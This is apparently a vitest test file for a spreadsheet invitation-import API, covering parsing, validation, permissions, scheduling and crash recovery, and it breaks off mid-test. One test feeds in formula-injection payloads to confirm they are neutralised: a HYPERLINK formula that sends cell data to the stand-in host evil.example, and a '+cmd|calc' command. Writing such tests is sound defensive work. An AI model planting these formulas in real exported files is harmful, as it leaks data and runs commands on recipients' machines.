import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp, type TestClient } from '../helpers/app.ts';
import { parseCsv } from '../helpers/csv.ts';
import { addMember, createOrgWithOwner, uniqueEmail } from '../helpers/factories.ts';
import { sharedTestApp } from '../helpers/shared-app.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

function upload(client: TestClient, orgId: string, body: string | Buffer, type = 'text/csv', query = '') {
  return client.request(
    'POST',
    `/api/v1/orgs/${orgId}/imports${query}`,
    Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8'),
    { 'content-type': type },
  );
}

function multipart(fileName: string, type: string, content: Buffer) {
  const boundary = `----beckon${randomBytes(8).toString('hex')}`;
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, type: `multipart/form-data; boundary=${boundary}` };
}

async function xlsxOf(rows: unknown[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('People');
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

describe('spreadsheet imports', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await sharedTestApp({ workers: false });
  });

  async function org() {
    const o = await createOrgWithOwner(t);
    const base = `/api/v1/orgs/${o.org.id}/imports`;
    const group = async (name: string) => {
      const res = await o.client.post(`/api/v1/orgs/${o.org.id}/groups`, { name });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      return res.body.id as string;
    };
    return { ...o, base, group };
  }

  const counts = async (importId: string) => {
    const inv = await t.services.db
      .selectFrom('invitations')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('import_id', '=', importId)
      .executeTakeFirstOrThrow();
    const emails = await sql<{
      n: number;
    }>`SELECT count(*)::int AS n FROM emails e JOIN invitations i ON i.id = e.invitation_id WHERE i.import_id = ${importId}`.execute(
      t.services.db,
    );
    const distinct = await sql<{
      n: number;
    }>`SELECT count(DISTINCT lower(email::text))::int AS n FROM invitations WHERE import_id = ${importId}`.execute(
      t.services.db,
    );
    return { invitations: Number(inv.n), emails: emails.rows[0]!.n, distinct: distinct.rows[0]!.n };
  };
  /** The 'invitation.send-batch' jobs of an import (their ids), as a worker would find them. */
  const sendBatchJobs = async (importId: string) => {
    const { rows } = await sql<{ data: { invitationIds: string[]; actor?: any }; start_after: Date }>`
      SELECT j.data, j.start_after FROM pgboss.job j
      WHERE j.name = 'invitation.send-batch'
        AND EXISTS (SELECT 1 FROM invitations i WHERE i.import_id = ${importId} AND i.id::text = j.data->'invitationIds'->>0)
    `.execute(t.services.db);
    return rows;
  };
  /** Runs an import's send-batch jobs in this process; returns how many invitations were sent. */
  const runSendBatches = async (importId: string) => {
    let sent = 0;
    for (const job of await sendBatchJobs(importId)) sent += await t.services.sendBatches.send(job.data);
    return sent;
  };

  it('serves the templates (CSV and XLSX) with the email, groups, role, expires_in_days, language columns and an example row', async () => {
    const o = await org();
    await o.group('Onboarding');
    const csv = await o.client.get(`${o.base}/template.csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename=".*\.csv"/);
    const lines = parseCsv(csv.body);
    expect(lines[0]).toEqual(['email', 'groups', 'role', 'expires_in_days', 'language']);
    expect(lines[1]![0]).toMatch(/@/);
    expect(lines[1]![1]).toBe('Onboarding');

    const xlsx = await o.client.request('GET', `${o.base}/template.xlsx`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers['content-type']).toBe(XLSX);
    const res = await t.app.inject({
      method: 'GET',
      url: `${o.base}/template.xlsx`,
      headers: { cookie: o.client.cookie! },
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(1).values).toEqual([
      undefined,
      'email',
      'groups',
      'role',
      'expires_in_days',
      'language',
    ]);
    expect(String(ws.getRow(2).getCell(1).value)).toMatch(/@/);

    // The template as downloaded imports cleanly.
    const back = await upload(o.client, o.org.id, res.rawPayload, XLSX);
    expect(back.status, JSON.stringify(back.body)).toBe(201);
    expect(back.body).toMatchObject({ total: 1, valid: 1, problems: [] });
  });

  it('reads CSV with BOM, CRLF, semicolons, quoted fields, escaped quotes and embedded line breaks; reports unknown columns', async () => {
    const o = await org();
    await o.group('Sales');
    await o.group('Support Team');
    const a = uniqueEmail('a');
    const b = uniqueEmail('b');
    const c = uniqueEmail('c');
    const csv =
      '\uFEFFEmail;Groups;ROLE;Notes\r\n' +
      `${a};"sales;support team";learner;"said ""hi""\r\non two lines"\r\n` +
      `"${b}";Sales;;plain\r\n` +
      ';;;\r\n' + // an empty row Excel leaves behind: ignored
      `${c};;manager;"x;y"\r\n`;
    const res = await upload(o.client, o.org.id, csv, 'text/csv', '?fileName=people.csv');
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({
      status: 'preview',
      total: 3,
      valid: 3,
      problems: [],
      unknownColumns: ['Notes'],
      fileName: 'people.csv',
      delimiter: ';',
      encoding: 'utf-8',
    });
    expect(typeof res.body.id).toBe('string');
    // Nothing is created until confirm.
    expect((await counts(res.body.id)).invitations).toBe(0);
    const rows = await t.services.db
      .selectFrom('import_rows')
      .selectAll()
      .where('import_id', '=', res.body.id)
      .orderBy('row_number')
      .execute();
    expect(rows.map((r) => [r.row_number, r.email, r.role, r.group_ids.length])).toEqual([
      [2, a, 'learner', 2],
      [3, b, 'learner', 1],
      [5, c, 'manager', 0],
    ]);

    // Comma-delimited, LF only, no BOM.
    const res2 = await upload(
      o.client,
      o.org.id,
      `email,groups\n${uniqueEmail('d')},Sales\n${uniqueEmail('e')},"Sales;Support Team"\n`,
    );
    expect(res2.status).toBe(201);
    expect(res2.body).toMatchObject({ total: 2, valid: 2, delimiter: ',' });
  });

  it('reads XLSX (hyperlinks, rich text, numbers) and accepts multipart uploads', async () => {
    const o = await org();
    await o.group('Sales');
    const a = uniqueEmail('x');
    const b = uniqueEmail('y');
    const file = await xlsxOf([
      ['email', 'groups', 'role', 'employee no'],
      [{ text: a, hyperlink: `mailto:${a}` }, 'Sales', 'learner', 123],
      [{ richText: [{ text: b.slice(0, 3) }, { text: b.slice(3), font: { bold: true } }] }, '', '', 456],
      ['not-an-address', 'Nope', 'wizard', 789],
    ]);
    const res = await upload(o.client, o.org.id, file, XLSX);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ fileType: 'xlsx', total: 3, valid: 2, unknownColumns: ['employee no'] });
    expect(res.body.problems.map((p: any) => [p.row, p.column, p.code])).toEqual([
      [4, 'email', 'invalid_email'],
      [4, 'role', 'role_not_allowed'],
      [4, 'groups', 'unknown_group'],
    ]);

    const m = multipart('team.xlsx', XLSX, file);
    const res2 = await o.client.request('POST', o.base, m.body, { 'content-type': m.type });
    expect(res2.status, JSON.stringify(res2.body)).toBe(201);
    expect(res2.body).toMatchObject({ fileName: 'team.xlsx', total: 3, valid: 2 });

    const m2 = multipart('list.csv', 'text/csv', Buffer.from(`email\n${uniqueEmail('m')}\n`));
    const res3 = await o.client.request('POST', o.base, m2.body, { 'content-type': m2.type });
    expect(res3.status, JSON.stringify(res3.body)).toBe(201);
    expect(res3.body).toMatchObject({ fileName: 'list.csv', fileType: 'csv', total: 1, valid: 1 });

    // A renamed XLSX sent as text/csv is still read as a workbook.
    const res4 = await upload(o.client, o.org.id, file, 'text/csv');
    expect(res4.status).toBe(201);
    expect(res4.body.fileType).toBe('xlsx');
  });

  it('reports every problem with its row number and column, and imports only valid rows', async () => {
    const o = await org();
    await o.group('Sales');
    const open = uniqueEmail('open');
    const inv = await o.client.post(`/api/v1/orgs/${o.org.id}/invitations`, { emails: [open] });
    expect(inv.status).toBe(201);
    const member = await addMember(t, o.org.id, 'learner');
    const good = uniqueEmail('good');
    const csv = [
      'email,groups,role',
      `${good},Sales,learner`, // 2 ok
      'not an address,,', // 3 invalid_email
      `${uniqueEmail('g')},Marketing,`, // 4 unknown_group
      `${good.toUpperCase()},,`, // 5 duplicate of row 2
      `${open},,`, // 6 already_invited
      `${member.email},,`, // 7 already_member
      `${uniqueEmail('r')},,superhero`, // 8 role_not_allowed (unknown)
      `${uniqueEmail('typo').replace('example.com', 'gmial.com')},,`, // 9 possible_typo
      `${uniqueEmail('ok')},sales,hr`, // 10 ok
    ].join('\n');
    const res = await upload(o.client, o.org.id, csv);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.total).toBe(9);
    expect(res.body.valid).toBe(2);
    expect(res.body.problems.map((p: any) => [p.row, p.column, p.code])).toEqual([
      [3, 'email', 'invalid_email'],
      [4, 'groups', 'unknown_group'],
      [5, 'email', 'duplicate'],
      [6, 'email', 'already_invited'],
      [7, 'email', 'already_member'],
      [8, 'role', 'role_not_allowed'],
      [9, 'email', 'possible_typo'],
    ]);
    for (const p of res.body.problems) expect(p.message.length).toBeGreaterThan(5);
    expect(res.body.problems[1].message).toContain('Marketing');
    expect(res.body.problems[2].message).toContain('row 2');
    expect(res.body.problems[6].message).toContain('gmail.com');

    // An hr member may not grant admin; group_required when the organization demands groups.
    const hr = await addMember(t, o.org.id, 'hr');
    expect((await o.client.patch(`/api/v1/orgs/${o.org.id}/settings`, { requireGroup: true })).status).toBe(
      200,
    );
    const res2 = await upload(
      hr.client,
      o.org.id,
      `email,groups,role\n${uniqueEmail('p')},Sales,admin\n${uniqueEmail('q')},,learner\n${uniqueEmail('s')},Sales,hr\n`,
    );
    expect(res2.status).toBe(201);
    expect(res2.body.problems.map((p: any) => [p.row, p.code])).toEqual([
      [2, 'role_not_allowed'],
      [3, 'group_required'],
    ]);
    expect(res2.body.valid).toBe(1);

    // Confirm: valid rows are created, problem rows get their outcome.
    const conf = await o.client.post(`${o.base}/${res.body.id}/confirm`, {});
    expect(conf.status, JSON.stringify(conf.body)).toBe(202);
    expect(conf.body).toMatchObject({ id: res.body.id, status: 'running' });
    await t.services.imports.runImport(res.body.id);
    const done = await o.client.get(`${o.base}/${res.body.id}`);
    expect(done.body).toMatchObject({
      status: 'done',
      total: 9,
      processed: 9,
      created: 2,
      skipped: 3,
      failed: 4,
    });
    expect((await counts(res.body.id)).invitations).toBe(2);
    const csvOut = parseCsv((await o.client.get(`${o.base}/${res.body.id}/results.csv`)).body);
    expect(csvOut[0]).toEqual(['row', 'email', 'outcome', 'code', 'reason', 'invitation_id', 'metadata']);
    const byRow = Object.fromEntries(csvOut.slice(1).map((l) => [l[0], l]));
    expect(byRow['2']![2]).toBe('created');
    expect(byRow['2']![5]).toMatch(/^[0-9a-f-]{36}$/);
    expect(byRow['5']!.slice(2, 4)).toEqual(['skipped', 'duplicate']);
    expect(byRow['3']!.slice(2, 4)).toEqual(['failed', 'invalid_email']);
    expect(byRow['9']!.slice(2, 4)).toEqual(['failed', 'possible_typo']);

    // Confirming twice is refused.
    expect((await o.client.post(`${o.base}/${res.body.id}/confirm`, {})).status).toBe(409);
  });

  it('finds members and open invitations in a big file too (bulk lookup path)', async () => {
    const o = await org();
    expect((await o.client.patch(`/api/v1/orgs/${o.org.id}/settings`, { importRowLimit: 5000 })).status).toBe(
      200,
    );
    const open = uniqueEmail('open');
    expect((await o.client.post(`/api/v1/orgs/${o.org.id}/invitations`, { emails: [open] })).status).toBe(
      201,
    );
    const member = await addMember(t, o.org.id, 'learner');
    const many = Array.from({ length: 2100 }, (_, i) => `bulk${i}.${o.org.id.slice(0, 6)}@example.org`);
    const res = await upload(
      o.client,
      o.org.id,
      `email\n${member.email.toUpperCase()}\n${open}\n${many.join('\n')}\n`,
    );
    expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(201);
    expect(res.body).toMatchObject({ total: 2102, valid: 2100 });
    expect(res.body.problems.map((p: any) => [p.row, p.code])).toEqual([
      [2, 'already_member'],
      [3, 'already_invited'],
    ]);
  });

  it('imports possible typos as typed when confirmed with allowTypos', async () => {
    const o = await org();
    const typo = uniqueEmail('t').replace('example.com', 'gmial.com');
    const res = await upload(o.client, o.org.id, `email\n${typo}\n${uniqueEmail('u')}\n`);
    expect(res.body).toMatchObject({ valid: 1, typos: 1 });
    await o.client.post(`${o.base}/${res.body.id}/confirm`, { allowTypos: true });
    await t.services.imports.runImport(res.body.id);
    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
      status: 'done',
      created: 2,
      failed: 0,
    });
  });

  it('confirm creates every invitation with its email and job; progress, results.csv and history', async () => {
    const o = await org();
    const g = await o.group('Cohort A');
    const emails = Array.from(
      { length: 30 },
      (_, i) => `learner${i}.${randomBytes(3).toString('hex')}@example.org`,
    );
    const csv = `email,groups\n${emails.map((e) => `${e},Cohort A`).join('\n')}\n`;
    const res = await upload(o.client, o.org.id, csv, 'text/csv', '?fileName=cohort.csv');
    expect(res.body).toMatchObject({ total: 30, valid: 30 });
    const conf = await o.client.post(`${o.base}/${res.body.id}/confirm`);
    expect(conf.status).toBe(202);
    const running = await o.client.get(`${o.base}/${res.body.id}`);
    expect(running.body).toMatchObject({ status: 'running', total: 30, processed: 0 });
    const job = await sql<{
      n: number;
    }>`SELECT count(*)::int AS n FROM pgboss.job WHERE name = 'import.run' AND data->>'importId' = ${res.body.id}`.execute(
      t.services.db,
    );
    expect(job.rows[0]!.n).toBe(1);

    // One chunk at a time: the counters move per chunk.
    const first = await t.services.imports.runImportChunk(res.body.id, 12);
    expect(first).toMatchObject({ done: false, processed: 12 });
    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
      status: 'running',
      processed: 12,
      created: 12,
    });
    await t.services.imports.runImport(res.body.id, { chunkSize: 12 });
    const done = (await o.client.get(`${o.base}/${res.body.id}`)).body;
    expect(done).toMatchObject({
      status: 'done',
      total: 30,
      processed: 30,
      created: 30,
      skipped: 0,
      failed: 0,
      fileName: 'cohort.csv',
    });
    expect(done.finishedAt).toBeTruthy();
    expect(done.createdBy.name).toBe('Olivia Owner');

    // Created and owed their email: one send-batch job per chunk holds their ids.
    expect(await counts(res.body.id)).toEqual({ invitations: 30, emails: 0, distinct: 30 });
    const created = await t.services.db
      .selectFrom('invitations')
      .selectAll()
      .where('import_id', '=', res.body.id)
      .execute();
    for (const i of created)
      expect(i).toMatchObject({
        status: 'pending',
        delivery_status: 'queued',
        sent_count: 0,
        last_event_type: 'created',
      });
    const batches = await sendBatchJobs(res.body.id);
    expect(batches.map((b) => b.data.invitationIds.length).sort()).toEqual([12, 12, 6]);
    expect(new Set(batches.flatMap((b) => b.data.invitationIds))).toEqual(new Set(created.map((i) => i.id)));
    expect(batches[0]!.data.actor).toMatchObject({ type: 'user', name: 'Olivia Owner' });
    // The worker's turn: every email is queued once, even if a batch job is delivered twice.
    t.clock.advance(60_000);
    expect(await runSendBatches(res.body.id)).toBe(30);
    expect(await runSendBatches(res.body.id)).toBe(0);
    expect(await counts(res.body.id)).toEqual({ invitations: 30, emails: 30, distinct: 30 });
    const invs = await t.services.db
      .selectFrom('invitations')
      .selectAll()
      .where('import_id', '=', res.body.id)
      .execute();
    for (const i of invs) {
      // Expiry counts from the actual send.
      expect(i.expires_at!.getTime()).toBe(t.clock.now().getTime() + 7 * 86_400_000);
      expect(i).toMatchObject({
        status: 'pending',
        delivery_status: 'queued',
        sent_count: 1,
        role: 'learner',
        last_event_type: 'sent',
      });
      expect(i.group_ids).toEqual([g]);
    }
    const sendJobs = await sql<{
      n: number;
    }>`SELECT count(*)::int AS n FROM pgboss.job j JOIN emails e ON e.id::text = j.data->>'emailId' JOIN invitations i ON i.id = e.invitation_id WHERE j.name = 'email.send' AND i.import_id = ${res.body.id}`.execute(
      t.services.db,
    );
    expect(sendJobs.rows[0]!.n).toBe(30);
    const events = await sql<{
      type: string;
      n: number;
    }>`SELECT e.type, count(*)::int AS n FROM invitation_events e JOIN invitations i ON i.id = e.invitation_id WHERE i.import_id = ${res.body.id} GROUP BY e.type ORDER BY e.type`.execute(
      t.services.db,
    );
    expect(events.rows).toEqual([
      { type: 'created', n: 30 },
      { type: 'sent', n: 30 },
    ]);
    // The invitations list API shows them like any other.
    const list = await o.client.get(`/api/v1/orgs/${o.org.id}/invitations?limit=50`);
    expect(list.body.items.filter((i: any) => emails.includes(i.email))).toHaveLength(30);

    const results = await o.client.get(`${o.base}/${res.body.id}/results.csv`);
    expect(results.headers['content-disposition']).toContain('cohort-results.csv');
    const lines = parseCsv(results.body);
    expect(lines).toHaveLength(31);
    expect(lines.slice(1).every((l) => l[2] === 'created')).toBe(true);

    const history = await o.client.get(o.base);
    expect(history.status).toBe(200);
    expect(history.body.items[0]).toMatchObject({
      id: res.body.id,
      status: 'done',
      created: 30,
      createdBy: { name: 'Olivia Owner' },
      fileName: 'cohort.csv',
    });
    expect(history.body.items[0].createdAt).toBeTruthy();
  });

  it('neutralises spreadsheet formulas in results.csv and quotes cells properly', async () => {
    const o = await org();
    const csv =
      'email,groups,role\n=HYPERLINK("http://evil.example/?x="&A1;"click"),,\n+cmd|calc,,\n-2+3,,\n@SUM(A1:A2),,\n"\tleading tab",,\n';
    const res = await upload(o.client, o.org.id, csv);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.problems.every((p: any) => p.code === 'invalid_email')).toBe(true);
    await o.client.post(`${o.base}/${res.body.id}/confirm`);
    await t.services.imports.runImport(res.body.id);
    const raw = (await o.client.get(`${o.base}/${res.body.id}/results.csv`)).body as string;
    const lines = parseCsv(raw);
    const emails = lines.slice(1).map((l) => l[1]!);
    expect(emails).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1;"click")`,
      `'+cmd|calc`,
      `'-2+3`,
      `'@SUM(A1:A2)`,
      `'\tleading tab`,
    ]);
    for (const line of raw.split('\r\n').slice(1)) expect(line).not.toMatch(/^[^,]*,[=+\-@\t]/);
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`);
  });

  it('enforces the organization row limit with too_many_rows, creating nothing', async () => {
    const o = await org();
    expect((await o.client.patch(`/api/v1/orgs/${o.org.id}/settings`, { importRowLimit: 3 })).status).toBe(
      200,
    );
    const ok = await upload(
      o.client,
      o.org.id,
      `email\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n`,
    );
    expect(ok.status).toBe(201);
    const res = await upload(
      o.client,
      o.org.id,
      `email\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n`,
    );
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('too_many_rows');
    expect(res.body.error.message).toContain('3');
    expect(res.body.error.limit).toBe(3);
    const history = await o.client.get(o.base);
    expect(history.body.items).toHaveLength(1);
  });

  it('refuses bad files with clear errors and changes nothing', async () => {
    const o = await org();
    const before = await t.services.db
      .selectFrom('imports')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    const expectError = async (body: string | Buffer, status: number, code: string, type = 'text/csv') => {
      const res = await upload(o.client, o.org.id, body, type);
      expect(res.status, JSON.stringify(res.body)).toBe(status);
      expect(res.body.error.code).toBe(code);
      expect(res.body.error.message.length).toBeGreaterThan(10);
      return res.body.error;
    };
    await expectError('', 400, 'empty_file');
    await expectError('\uFEFF', 400, 'empty_file');
    await expectError('\r\n\r\n  \r\n', 400, 'empty_file');
    await expectError('email,groups,role\r\n', 400, 'empty_file');
    await expectError('name,phone\nAda,123\n', 400, 'missing_header');
    // A binary file renamed .csv (NUL bytes), a PNG, an old .xls, a broken zip sent as XLSX.
    await expectError(
      Buffer.concat([Buffer.from('email\n'), randomBytes(2000), Buffer.alloc(10)]),
      400,
      'not_a_spreadsheet',
    );
    await expectError(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 400, 'not_a_spreadsheet');
    await expectError(Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'), 400, 'not_a_spreadsheet');
    await expectError(
      Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(500)]),
      400,
      'not_a_spreadsheet',
      XLSX,
    );
    await expectError(Buffer.from('not a workbook at all, just text'), 400, 'not_a_spreadsheet', XLSX);
    // A row of 10,000 characters.
    const long = await expectError(
      `email,notes\n${uniqueEmail()},ok\n${uniqueEmail()},${'x'.repeat(10_000)}\n`,
      400,
      'row_too_long',
    );
    expect(long.row).toBe(3);
    expect(long.message).toContain('Row 3');
    // An unclosed quote swallows the rest of the file into one row: reported, not buffered.
    await expectError(`email\n"${uniqueEmail()}\n${'a@b.co\n'.repeat(2000)}`, 400, 'row_too_long');
    await expectError(`email\n"${uniqueEmail()}\n`, 400, 'invalid_csv');
    // Mixed encodings: UTF-8 first, then a Windows-1252 byte on row 4.
    const mixed = Buffer.concat([
      Buffer.from(`email,groups\n${uniqueEmail()},Équipe\n${uniqueEmail()},x\n${uniqueEmail()},caf`),
      Buffer.from([0xe9]),
      Buffer.from('\n'),
    ]);
    const enc = await expectError(mixed, 400, 'invalid_encoding');
    expect(enc.row).toBe(4);
    // The reverse: Windows-1252 first, UTF-8 later.
    const mixed2 = Buffer.concat([
      Buffer.from(`email,groups\n${uniqueEmail()},caf`),
      Buffer.from([0xe9]),
      Buffer.from(`\n${uniqueEmail()},x\n${uniqueEmail()},Équipe\n`),
    ]);
    expect((await expectError(mixed2, 400, 'invalid_encoding')).row).toBe(4);
    // JSON is not a file.
    const json = await o.client.post(o.base, { email: 'a@b.co' });
    expect(json.status).toBe(415);

    const after = await t.services.db
      .selectFrom('imports')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    expect(Number(after.n)).toBe(Number(before.n));
  });

  it('reads a whole Windows-1252 file (Excel on Windows) and says so', async () => {
    const o = await org();
    await o.group('Équipe');
    const body = Buffer.concat([
      Buffer.from(`email;groups\r\n${uniqueEmail()};`),
      Buffer.from([0xc9]),
      Buffer.from('quipe\r\n'),
    ]);
    const res = await upload(o.client, o.org.id, body, 'application/vnd.ms-excel');
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ encoding: 'windows-1252', valid: 1, problems: [] });
  });

  it('is limited to members with the invitations capability, within their organization', async () => {
    const o = await org();
    const other = await org();
    const learner = await addMember(t, o.org.id, 'learner');
    expect((await upload(learner.client, o.org.id, `email\n${uniqueEmail()}\n`)).status).toBe(403);
    expect((await learner.client.get(o.base)).status).toBe(403);
    expect((await upload(other.client, o.org.id, `email\n${uniqueEmail()}\n`)).status).toBe(404);
    const mine = await upload(o.client, o.org.id, `email\n${uniqueEmail()}\n`);
    expect((await other.client.get(`${other.base}/${mine.body.id}`)).status).toBe(404);
    expect((await other.client.post(`${other.base}/${mine.body.id}/confirm`)).status).toBe(404);
    const anon = t.client();
    expect((await upload(anon, o.org.id, `email\n${uniqueEmail()}\n`)).status).toBe(401);
  });

  it('cancels a preview, a running import (remaining rows skipped) and a scheduled one (invitations cancelled)', async () => {
    const o = await org();
    const file = () => `email\n${Array.from({ length: 10 }, () => uniqueEmail('c')).join('\n')}\n`;
    const p = await upload(o.client, o.org.id, file());
    const c1 = await o.client.post(`${o.base}/${p.body.id}/cancel`);
    expect(c1.status).toBe(200);
    expect(c1.body.status).toBe('cancelled');
    expect((await o.client.post(`${o.base}/${p.body.id}/confirm`)).status).toBe(409);

    const r = await upload(o.client, o.org.id, file());
    await o.client.post(`${o.base}/${r.body.id}/confirm`);
    await t.services.imports.runImportChunk(r.body.id, 4);
    const c2 = await o.client.post(`${o.base}/${r.body.id}/cancel`);
    expect(c2.body).toMatchObject({ status: 'cancelled', processed: 10, created: 4, skipped: 6 });
    await t.services.imports.runImport(r.body.id);
    expect((await counts(r.body.id)).invitations).toBe(4);

    const sendAt = new Date(t.clock.now().getTime() + 3 * 86_400_000).toISOString();
    const s = await upload(o.client, o.org.id, file());
    const conf = await o.client.post(`${o.base}/${s.body.id}/confirm`, { sendAt });
    expect(conf.status).toBe(202);
    expect(conf.body.sendAt).toBe(sendAt);
    await t.services.imports.runImport(s.body.id);
    const invs = await t.services.db
      .selectFrom('invitations')
      .selectAll()
      .where('import_id', '=', s.body.id)
      .execute();
    expect(invs).toHaveLength(10);
    for (const i of invs) expect(i).toMatchObject({ status: 'scheduled', expires_at: null, sent_count: 0 });
    expect(invs[0]!.send_at!.toISOString()).toBe(sendAt);
    // One send-batch job waits for the send time with every id.
    const waiting = await sendBatchJobs(s.body.id);
    expect(waiting).toHaveLength(1);
    expect(new Set(waiting[0]!.data.invitationIds)).toEqual(new Set(invs.map((i) => i.id)));
    expect(new Date(waiting[0]!.start_after).toISOString()).toBe(sendAt);
    // Run early (a clock skew, a manual retry), it sends nothing.
    expect(await runSendBatches(s.body.id)).toBe(0);
    expect((await counts(s.body.id)).emails).toBe(0);
    // When the time comes, one goes out; expiry counts from the actual send.
    t.clock.advance(3 * 86_400_000 + 1000);
    await t.services.sendBatches.send({ invitationIds: [invs[0]!.id] });
    const sent = await t.services.db
      .selectFrom('invitations')
      .selectAll()
      .where('id', '=', invs[0]!.id)
      .executeTakeFirstOrThrow();
    expect(sent.status).toBe('pending');
    expect(sent.expires_at!.getTime()).toBe(t.clock.now().getTime() + 7 * 86_400_000);
    t.clock.advance(-(3 * 86_400_000 + 1000));
    const c3 = await o.client.post(`${o.base}/${s.body.id}/cancel`);
    expect(c3.status, JSON.stringify(c3.body)).toBe(200);
    expect(c3.body).toMatchObject({ status: 'cancelled', cancelledInvitations: 9 });
    const after = await t.services.db
      .selectFrom('invitations')
      .select('status')
      .where('import_id', '=', s.body.id)
      .execute();
    expect(after.filter((i) => i.status === 'cancelled')).toHaveLength(9);
  });

  it('moves a scheduled import: waiting invitations and rows not yet created go at the new time', async () => {
    const o = await org();
    const file = `email\n${Array.from({ length: 6 }, () => uniqueEmail('move')).join('\n')}\n`;
    const p = await upload(o.client, o.org.id, file);
    const early = await o.client.patch(`${o.base}/${p.body.id}`, {
      sendAt: new Date(t.clock.now().getTime() + 86_400_000).toISOString(),
    });
    expect(early.status).toBe(409);
    expect(early.body.error.message).toMatch(/preview/);

    const sendAt = new Date(t.clock.now().getTime() + 86_400_000);
    await o.client.post(`${o.base}/${p.body.id}/confirm`, { sendAt: sendAt.toISOString() });
    // Half created before the move, half after.
    await t.services.imports.runImportChunk(p.body.id, 3);
    const later = new Date(sendAt.getTime() + 2 * 86_400_000);
    const bad = await o.client.patch(`${o.base}/${p.body.id}`, { sendAt: 'tomorrow' });
    expect(bad.status).toBe(400);
    const moved = await o.client.patch(`${o.base}/${p.body.id}`, { sendAt: later.toISOString() });
    expect(moved.status, JSON.stringify(moved.body)).toBe(200);
    expect(moved.body).toMatchObject({ sendAt: later.toISOString(), movedInvitations: 3 });
    await t.services.imports.runImport(p.body.id);
    const invs = await t.services.db
      .selectFrom('invitations')
      .selectAll()
      .where('import_id', '=', p.body.id)
      .execute();
    expect(invs).toHaveLength(6);
    for (const i of invs) expect(i.send_at!.toISOString()).toBe(later.toISOString());
    // The three created before the move say so; the three created after were scheduled once.
    const eventTypes = await Promise.all(
      invs.map(async (i) =>
        (
          (await o.client.get(`/api/v1/orgs/${o.org.id}/invitations/${i.id}`)).body.events as {
            type: string;
          }[]
        ).map((e) => e.type),
      ),
    );
    for (const types of eventTypes) expect(types).toEqual(expect.arrayContaining(['created', 'scheduled']));
    expect(eventTypes.filter((types) => types.includes('rescheduled'))).toHaveLength(3);
    // The jobs for the old time find nothing due; at the new time every invitation goes once.
    t.clock.set(new Date(sendAt.getTime() + 1000));
    expect(await runSendBatches(p.body.id)).toBe(0);
    t.clock.set(new Date(later.getTime() + 1000));
    expect(await runSendBatches(p.body.id)).toBe(6);
    expect((await counts(p.body.id)).emails).toBe(6);
    expect(await runSendBatches(p.body.id)).toBe(0);
    // Gone: nothing to move.
    const after = await o.client.patch(`${o.base}/${p.body.id}`, {
      sendAt: new Date(later.getTime() + 86_400_000).toISOString(),
    });
    expect(after.status).toBe(409);
    t.clock.set(new Date(sendAt.getTime() - 86_400_000));
  });

  it('crash and resume: a job that dies between chunks continues with no row lost or doubled', async () => {
    const o = await org();
    const emails = Array.from({ length: 25 }, () => uniqueEmail('crash'));
    const res = await upload(o.client, o.org.id, `email\n${emails.join('\n')}\n`);
    await o.client.post(`${o.base}/${res.body.id}/confirm`);
    // The first run commits one chunk, then the process "dies".
    await expect(
      t.services.imports.runImport(res.body.id, {
        chunkSize: 10,
        lanes: 1,
        afterChunk: () => {
          throw new Error('killed');
        },
      }),
    ).rejects.toThrow('killed');
    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
      status: 'running',
      processed: 10,
    });
    expect(await counts(res.body.id)).toEqual({ invitations: 10, emails: 0, distinct: 10 });
    expect(await sendBatchJobs(res.body.id)).toHaveLength(1);
    // A chunk that fails inside its transaction leaves nothing behind.
    await expect(
      t.services.db.transaction().execute(async (trx) => {
        await trx.updateTable('imports').set({ processed: 999 }).where('id', '=', res.body.id).execute();
        throw new Error('rolled back');
      }),
    ).rejects.toThrow();
    // The retry (pg-boss redelivers the job) finishes the rest.
    await t.services.imports.runImport(res.body.id, { chunkSize: 10 });
    // And a late duplicate delivery of the same job does nothing.
    await t.services.imports.runImport(res.body.id, { chunkSize: 10 });
    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
      status: 'done',
      processed: 25,
      created: 25,
      skipped: 0,
      failed: 0,
    });
    expect(await sendBatchJobs(res.body.id)).toHaveLength(3);
